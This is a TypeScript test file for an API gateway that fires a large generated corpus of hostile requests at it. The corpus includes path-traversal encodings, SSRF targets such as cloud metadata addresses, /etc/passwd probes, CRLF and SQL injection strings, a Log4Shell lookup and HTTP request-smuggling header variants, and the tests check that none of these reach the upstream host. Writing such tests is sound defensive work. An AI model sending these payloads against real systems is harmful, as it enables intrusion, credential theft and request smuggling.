/**
 * What may leave the gateway, whatever is sent to it: the two documented requests, with headers of its own and the
 * session's credentials. Each hostile request comes with a good session, so that nothing but the path stands in its way.
 */
import { describe, expect, test } from 'vitest';
import { REFERENCE } from '../cxengage/documents.ts';
import { headerValues, type Peer } from '../cxengage/peer.ts';
import { sendRaw, signIn, startGateway, startHost } from './startLive.ts';

const { tenantId: TENANT, interactionId: INTERACTION } = REFERENCE;
const PATH = `/v1/tenants/${TENANT}/interactions/${INTERACTION}`;
const SLA = '00000000-0000-4000-8000-0000000051a0';
const RANGE = 'start=2017-12-07T00:00:00.000Z&end=2017-12-08T00:00:00.000Z';

/** What may be asked beside interactions, as it is asked. */
const MORE_PATHS = [
  `/v1/tenants/${TENANT}`,
  `/v1/tenants/${TENANT}/interactions?${RANGE}&limit=100&offset=0`,
  `${PATH}/artifacts`,
  `${PATH}/artifacts/${SLA}`,
  `${PATH}/notes?contents=true`,
  `/v1/tenants/${TENANT}/slas/${SLA}/versions`,
];

const ID = '[0-9a-f-]{36}';
const TIME = '\\d{4}-\\d\\d-\\d\\dT\\d\\d:\\d\\d:\\d\\d\\.\\d{3}Z';
/** Everything that may leave by GET, and nothing like it. */
const DOCUMENTED = new RegExp(
  `^GET /v1/tenants/${ID}(?:/interactions/${ID}(?:/artifacts(?:/${ID})?|/notes\\?contents=true)?|/slas/${ID}/versions|/interactions\\?start=${TIME}&end=${TIME}&limit=\\d{1,4}&offset=\\d{1,8})?$`,
);

/** One target each; all of them lead, read in one way or another, to the host or beyond the documented path. */
function hostileTargets(): readonly string[] {
  const dots = [
    '.',
    '..',
    '%2e',
    '%2e%2e',
    '.%2e',
    '%2E.',
    '%252e%252e',
    '%c0%ae%c0%ae',
    '..;',
    '..%00',
    '\u2025',
    '...',
  ];
  const slashes = [
    '/',
    '//',
    '%2f',
    '%2F',
    '%252f',
    '%5c',
    '\\',
    '%c0%af',
    '\u2215',
    '%u2215',
    ';/',
    '/;x=y/',
    '%0a/',
    '%09/',
  ];
  const hosts = ['evil.example', '127.0.0.1:1', 'user:pass@evil.example', '[::1]', '169.254.169.254', 'localhost:22'];
  const elsewhere = [
    '/v1/tokens',
    '/v1/login',
    '/v1/me',
    '/v1/users',
    '/v1/regions',
    '/v1',
    '/v1/',
    `/v1/tenants/${TENANT}`,
    `/v1/tenants/${TENANT}/interactions`,
    `/v1/tenants/${TENANT}/interactions/`,
    `/v1/tenants/${TENANT}/users`,
    `${PATH}/`,
    `${PATH}/artifacts`,
    `${PATH}/notes?contents=true`,
    `${PATH}.json`,
    `${PATH};v=1`,
    `/V1/tenants/${TENANT}/interactions/${INTERACTION}`,
    `/v2/tenants/${TENANT}/interactions/${INTERACTION}`,
    `/v1/Tenants/${TENANT}/Interactions/${INTERACTION}`,
    `/v1/tenants/${TENANT}/interactions/${INTERACTION}/${INTERACTION}`,
    '/.env',
    '/.git/config',
    '/etc/passwd',
    '/metrics',
    '/server-status',
    '/healthz/../metrics',
  ];
  const ids = [
    `{${INTERACTION}}`,
    `%7B${INTERACTION}%7D`,
    `urn:uuid:${INTERACTION}`,
    INTERACTION.replaceAll('-', ''),
    INTERACTION.slice(1),
    `${INTERACTION}0`,
    `${INTERACTION}%00`,
    `${INTERACTION}%0a`,
    `${INTERACTION}%0d%0aX-Evil:%201`,
    `${INTERACTION}%20`,
    `${INTERACTION}%3fa=b`,
    `${INTERACTION}%23`,
    `${INTERACTION}@evil.example`,
    `%62${INTERACTION.slice(1)}`,
    INTERACTION.replace('b', '\uff42'),
    INTERACTION.replace('b', '\u0430'),
    'g'.repeat(36),
    '..',
    '*',
    '%',
    '%zz',
    "' or 1=1 --",
    // biome-ignore lint/suspicious/noTemplateCurlyInString: as an attacker of other programs sends it.
    '${jndi:ldap://evil.example}',
    '<script>',
    '[object Object]',
    '__proto__',
    'constructor',
    '',
  ];
  const targets = new Set<string>();
  for (const dot of dots) {
    for (const slash of slashes) {
      targets.add(`/v1/tenants/${TENANT}/interactions/${INTERACTION}${slash}${dot}`);
      targets.add(`/${dot}${slash}v1/tenants/${TENANT}/interactions/${INTERACTION}`);
      targets.add(`/v1/tenants/${TENANT}${slash}${dot}${slash}${TENANT}/interactions/${INTERACTION}`);
    }
  }
  for (const slash of slashes) targets.add(PATH.replaceAll('/', slash));
  for (const more of MORE_PATHS) {
    const [path = '', query] = more.split('?');
    for (const slash of slashes) {
      targets.add(more.replaceAll('/', slash));
      targets.add(`${path}${slash}..${slash}users`);
      targets.add(`${path}${slash}%2e%2e${slash}${SLA}`);
      targets.add(`${path}${slash}`);
    }
    for (const id of ['..', 'x', `${SLA}%00`, `${SLA}%2f..`, `{${SLA}}`, `${SLA};a=b`, '*', '']) {
      targets.add(more.replace(SLA, id).replace(INTERACTION, id));
      targets.add(more.replace(TENANT, id));
    }
    for (const extra of [
      'limit=0',
      'start=1',
      'url=http://evil.example',
      'a[]=1',
      '%00',
      'limit=1&limit=2',
      'contents=true',
      '=',
      '&',
    ]) {
      targets.add(`${path}?${query === undefined ? extra : `${query}&${extra}`}`);
      targets.add(`${path}?${extra}`);
    }
    targets.add(`${more}#a`);
    targets.add(more.toUpperCase());
  }
  for (const time of [
    'now',
    '0',
    '-1',
    '2017-12-07',
    '2017-12-07T00:00:00Z%0d%0aX: 1',
    '2017-12-07T00:00:00Z/../..',
    '%27',
  ]) {
    targets.add(`/v1/tenants/${TENANT}/interactions?start=${time}&end=2017-12-08T00:00:00.000Z`);
  }
  for (const host of hosts) {
    for (const begin of ['//', '///', '/\\', 'http://', 'https://', 'ftp://', '/http://', '/http:/', 'ws://', '']) {
      targets.add(`${begin}${host}${PATH}`);
    }
    targets.add(`${PATH}?host=${host}&url=http://${host}/`);
    targets.add(`/@${host}${PATH}`);
    targets.add(`/.${host}${PATH}`);
  }
  for (const id of ids) {
    targets.add(`/v1/tenants/${TENANT}/interactions/${id}`);
    targets.add(`/v1/tenants/${id}/interactions/${INTERACTION}`);
  }
  for (const path of elsewhere) targets.add(path);
  for (let code = 0; code < 33; code += 1) targets.add(`${PATH.slice(0, -3)}${String.fromCharCode(code)}aee`);
  for (const code of [0x7f, 0x80, 0xa0, 0xff]) targets.add(`${PATH}${String.fromCharCode(code)}`);
  for (const length of [1_000, 4_000, 12_000, 20_000, 70_000]) {
    targets.add(`/${'a'.repeat(length)}`);
    targets.add(`${PATH}${'/..'.repeat(length / 4)}`);
    targets.add(`${PATH}?${'a=b&'.repeat(length / 4)}`);
    targets.add(`/v1/tenants/${'%41'.repeat(length / 4)}/interactions/${INTERACTION}`);
  }
  for (const target of ['*', '', '?', '#', `${PATH}#a`, `${PATH}?a#b`, '/%', '/?/v1/tokens', ` ${PATH}`, `${PATH} `]) {
    targets.add(target);
  }
  return [...targets];
}

const METHODS = [
  ...['HEAD', 'POST', 'PUT', 'PATCH', 'DELETE', 'OPTIONS', 'TRACE', 'CONNECT', 'PROPFIND', 'MKCOL', 'COPY', 'MOVE'],
  ...['LOCK', 'UNLOCK', 'SEARCH', 'PURGE', 'REPORT', 'SUBSCRIBE', 'M-SEARCH', 'SOURCE', 'LINK', 'QUERY', 'get', 'Get'],
  ...['GETX', 'G ET', 'GET\t', '\u0000', 'PRI', 'JEFE', ''],
];

/** What a browser, a proxy or an attacker may send along; none of it may go up. */
const FOREIGN = [
  'User-Agent: curious',
  'Referer: https://viewer.example/?secret',
  'Authorization: Bearer of-the-client',
  'Proxy-Authorization: Basic b2Y6Y2xpZW50',
  'X-Forwarded-For: 198.51.100.1',
  'X-Forwarded-Host: evil.example',
  'X-Forwarded-Proto: https',
  'Forwarded: for=198.51.100.1',
  'X-Original-URL: /v1/tokens',
  'X-Rewrite-URL: /v1/me',
  'X-HTTP-Method-Override: DELETE',
  'Accept-Language: en',
  'If-None-Match: "a"',
  'Range: bytes=0-1',
  'Via: 1.1 evil',
  'Traceparent: 00-0af7651916cd43dd8448eb211c80319c-b7ad6b7169203331-01',
];

/** Asserts what the host was asked, over all of a test. */
function expectOnlyDocumented(peer: Peer): void {
  for (const asked of peer.asked) {
    const line = `${asked.method} ${asked.target}`;
    if (asked.method === 'POST') expect(line).toBe('POST /v1/tokens');
    else expect(line).toMatch(DOCUMENTED);
    const allowed = ['accept', 'accept-encoding', 'authorization', 'connection', 'host'];
    const names = asked.headers.map(([name]) => name.toLowerCase());
    const posted = asked.method === 'POST' ? ['content-type', 'content-length'] : [];
    expect(names.filter((name) => ![...allowed, ...posted].includes(name))).toEqual([]);
    expect(new Set(names).size).toBe(names.length);
    for (const value of headerValues(asked, 'authorization')) expect(value).toMatch(/^Token [\w.-]+$/);
    if (asked.method === 'GET') expect(asked.body).toBe('');
  }
}

async function start() {
  const peer = await startHost();
  const { address, lines, metrics } = await startGateway(peer.address);
  const cookie = await signIn(address);
  const host = new URL(address).host;
  const send = (method: string, target: string) =>
    sendRaw(
      address,
      [
        `${method} ${target} HTTP/1.1`,
        `Host: ${host}`,
        `Cookie: theme=dark; ${cookie}; other=1`,
        ...FOREIGN,
        'Connection: close',
        '\r\n',
      ].join('\r\n'),
    );
  return { peer, address, cookie, send, lines, metrics };
}

describe('hostile requests', () => {
  test('sent raw over a socket: nothing but the documented requests reaches the host', async () => {
    const { peer, send, lines, metrics } = await start();
    const targets = hostileTargets();
    expect(targets.length).toBeGreaterThan(900);
    const statuses = new Map<string, number>();
    // Some side by side: each is a connection of its own.
    for (let at = 0; at < targets.length; at += 20) {
      await Promise.all(
        targets.slice(at, at + 20).map(async (target) => {
          const answer = await send('GET', target);
          const status = /^HTTP\/1\.1 (\d{3}) /.exec(answer)?.[1] ?? 'none';
          statuses.set(status, (statuses.get(status) ?? 0) + 1);
          // Every one of them is answered, and by no fault of ours.
          expect(status, target.slice(0, 200)).toMatch(/^(?:200|4\d\d)$/);
          if (status === '200') expect(target).toMatch(/^ ?\/v1\/tenants\//);
        }),
      );
    }
    expectOnlyDocumented(peer);
    // The corpus is hostile: nearly all of it is refused.
    expect((statuses.get('400') ?? 0) + (statuses.get('404') ?? 0) + (statuses.get('431') ?? 0)).toBeGreaterThan(800);
    // Neither the log nor the metrics repeat what was sent.
    const said = lines.join('') + (await metrics.text());
    expect(said.match(/evil|passwd|jndi|curious|of-the-client|<script/g) ?? []).toEqual([]);
  });

  test.each([PATH, ...MORE_PATHS.filter((path) => !path.includes(`artifacts/${SLA}`))])(
    'with every method, raw, of %s: only GET and HEAD ask, and ask by GET',
    async (path) => {
      const { peer, send } = await start();
      for (const method of METHODS) {
        const asked = peer.asked.length;
        const answer = await send(method, path);
        const isReading = method === 'HEAD';
        if (method !== 'CONNECT') expect(answer, method).toMatch(isReading ? /^HTTP\/1\.1 200 / : /^HTTP\/1\.1 4\d\d /);
        expect(peer.asked.length - asked, method).toBe(isReading ? 1 : 0);
      }
      expectOnlyDocumented(peer);
    },
  );

  test('sent by fetch: nothing but the documented requests reaches the host', async () => {
    const { peer, address, cookie } = await start();
    const targets = hostileTargets().filter((target) => target.startsWith('/') && target.length < 5_000);
    for (let at = 0; at < targets.length; at += 20) {
      await Promise.all(
        targets.slice(at, at + 20).map(async (target) => {
          const answer = await fetch(`${address}${target}`, {
            headers: { Cookie: cookie, Origin: 'https://a.example' },
          });
          expect(answer.status, target).toBeLessThan(500);
          await answer.arrayBuffer();
        }),
      );
    }
    expectOnlyDocumented(peer);
  });

  test('ids written in capitals are asked for in the one way', async () => {
    const { peer, send } = await start();
    await send(
      'GET',
      PATH.toUpperCase().replace('/V1/TENANTS/', '/v1/tenants/').replace('/INTERACTIONS/', '/interactions/'),
    );
    expect(peer.asked.map(({ target }) => target)).toEqual(['/v1/tokens', PATH]);
  });
});

describe('one request hidden in another', () => {
  const HIDDEN = 'b2109780-db83-11e7-9709-c2b07aa3beef';
  const hidden = `GET ${PATH.replace(INTERACTION, HIDDEN)} HTTP/1.1\r\nHost: x\r\n\r\n`;
  const length = hidden.length;

  /** The head of a POST, as lines that end with CR LF unless they say otherwise; behind it comes the hidden request. */
  const FORMS: readonly (readonly [what: string, head: string])[] = [
    ['two lengths that differ', `Content-Length: 0\r\nContent-Length: ${length}\r\n\r\n`],
    ['two lengths that are the same', `Content-Length: ${length}\r\nContent-Length: ${length}\r\n\r\n`],
    ['a list of lengths', `Content-Length: 0, ${length}\r\n\r\n`],
    ['a length and chunks', `Content-Length: ${length}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`],
    ['chunks and a length', `Transfer-Encoding: chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n`],
    ['two encodings', `Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n`],
    ['an encoding after chunks', `Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n`],
    ['a space before the colon', `Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n`],
    ['a space before the colon of a length', `Content-Length : ${length}\r\n\r\n`],
    ['an encoding on a folded line', `Transfer-Encoding:\r\n chunked\r\nContent-Length: 4\r\n\r\n0\r\n\r\n`],
    ['a length on a folded line', `X: y\r\n Content-Length: ${length}\r\n\r\n`],
    ['a line end in the name', `Transfer\r\n-Encoding: chunked\r\n\r\n0\r\n\r\n`],
    ['a negative length', `Content-Length: -1\r\n\r\n`],
    ['a length with a sign', `Content-Length: +${length}\r\n\r\n`],
    ['a hexadecimal length', `Content-Length: 0x10\r\n\r\n`],
    ['a length in two words', `Content-Length: 1 0\r\n\r\n`],
    ['an empty length', `Content-Length:\r\n\r\n`],
    ['a length beyond numbers', `Content-Length: 99999999999999999999\r\n\r\n`],
    ['lines that end with LF alone', `Content-Length: 0\n\n`],
    ['one line that ends with LF alone', `X: y\nContent-Length: 0\r\n\r\n`],
    ['a CR alone within a value', `X: y\rContent-Length: 0\r\n\r\n`],
    ['a CR alone at the end', `Content-Length: 0\r\r\n\r\n`],
    ['a NUL within a value', `X: y\u0000z\r\nContent-Length: 0\r\n\r\n`],
    ['a space within a name', `Content Length: 0\r\n\r\n`],
    ['a line without a colon', `Content-Length\r\n\r\n`],
    ['an empty name', `: y\r\n\r\n`],
    ['two hosts', `Host: evil.example\r\nContent-Length: 0\r\n\r\n`],
  ];

  test.each(FORMS)('%s: refused, and the hidden one is not asked', async (what, head) => {
    const { peer, address, cookie } = await start();
    const asked = peer.asked.length;
    const first = `POST /session HTTP/1.1\r\nHost: x\r\nCookie: ${cookie}\r\nOrigin: ${address}\r\n${head}`;
    const answer = await sendRaw(address, `${first}${hidden}`);
    expect(answer.match(/HTTP\/1\.1 \d{3} /g), answer.slice(0, 300)).toEqual(['HTTP/1.1 400 ']);
    expect(answer, what).toMatch(/\r\nconnection: close\r\n/i);
    expect(answer).toMatch(/\r\ncontent-security-policy: default-src 'none'/i);
    expect(peer.asked).toHaveLength(asked);
  });

  /** Found out only behind the head, when its answer may have begun: the connection ends there. */
  const LATE_FORMS: readonly (readonly [what: string, head: string])[] = [
    ['an encoding that is not known', `Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n`],
    ['a chunk of hexadecimal with 0x', `Transfer-Encoding: chunked\r\n\r\n0x0\r\n\r\n`],
    ['a chunk whose line ends with LF alone', `Transfer-Encoding: chunked\r\n\r\n0\n\n`],
    ['a chunk without its end', `Transfer-Encoding: chunked\r\n\r\n1\r\naa0\r\n\r\n`],
    ['a chunk of negative size', `Transfer-Encoding: chunked\r\n\r\n-1\r\n\r\n`],
    ['a chunk of endless size', `Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n\r\n`],
  ];

  test.each(LATE_FORMS)('%s: the connection ends, and the hidden one is not asked', async (_what, head) => {
    const { peer, address, cookie } = await start();
    const asked = peer.asked.length;
    const first = `POST /session HTTP/1.1\r\nHost: x\r\nCookie: ${cookie}\r\nOrigin: ${address}\r\n${head}`;
    const answer = await sendRaw(address, `${first}${hidden}`);
    expect(answer.match(/HTTP\/1\.1 \d{3} /g)?.join('') ?? '').toMatch(/^(?:HTTP\/1\.1 40[03] )*$/);
    expect(peer.asked).toHaveLength(asked);
  });

  test.each([
    ['a body on a GET', `GET ${PATH} HTTP/1.1\r\nHost: x\r\nContent-Length: ${length}\r\n\r\n`],
    ['chunks on a GET', `GET ${PATH} HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n`],
    ['a body on a DELETE', `DELETE /session HTTP/1.1\r\nHost: x\r\nContent-Length: ${length}\r\n\r\n`],
    ['no host', `GET ${PATH} HTTP/1.1\r\n\r\n`],
    ['HTTP/2 without agreement', 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'],
    ['a version that is none', `GET ${PATH} HTTP/9.9\r\nHost: x\r\n\r\n`],
    ['TLS where none is spoken', '\u0016\u0003\u0001\u0000\u0005hello'],
  ])('%s: refused, and what comes behind is not asked', async (_what, first) => {
    const { peer, address } = await start();
    const asked = peer.asked.length;
    const answer = await sendRaw(address, `${first}${hidden}`);
    expect(answer.match(/HTTP\/1\.1 \d{3} /g), answer.slice(0, 300)).toEqual(['HTTP/1.1 400 ']);
    expect(peer.asked).toHaveLength(asked);
  });

  test('HTTP/0.9, which has no headers: the connection ends', async () => {
    const { peer, address, cookie } = await start();
    const asked = peer.asked.length;
    await sendRaw(address, `GET ${PATH}\r\nCookie: ${cookie}\r\n\r\n`);
    expect(peer.asked).toHaveLength(asked);
  });

  test('two requests on one connection, each as it should be, are two requests', async () => {
    const { address } = await start();
    const line = 'GET /healthz HTTP/1.1\r\nHost: x\r\n';
    const answer = await sendRaw(address, `${line}\r\n${line}Connection: close\r\n\r\n`);
    expect(answer.match(/HTTP\/1\.1 200 /g)).toHaveLength(2);
  });
});

describe('limits', () => {
  test('more headers than 16 kB: 431 in words', async () => {
    const { address } = await start();
    const answer = await sendRaw(address, `GET / HTTP/1.1\r\nHost: x\r\nX: ${'y'.repeat(17_000)}\r\n\r\n`);
    expect(answer).toMatch(/^HTTP\/1\.1 431 /);
    expect(answer).toContain('urn:interaction-viewer:problem:headers-too-large');
    expect(answer).toMatch(/\r\nx-request-id: [0-9a-z]{12}\r\n/);
  });

  test('a body of more than 4 kB: 413 before it has come', async () => {
    const { address } = await start();
    const head = `POST /session HTTP/1.1\r\nHost: x\r\nContent-Length: 4097\r\nConnection: close\r\n\r\n`;
    expect(await sendRaw(address, head)).toMatch(/^HTTP\/1\.1 413 /);
  });
});
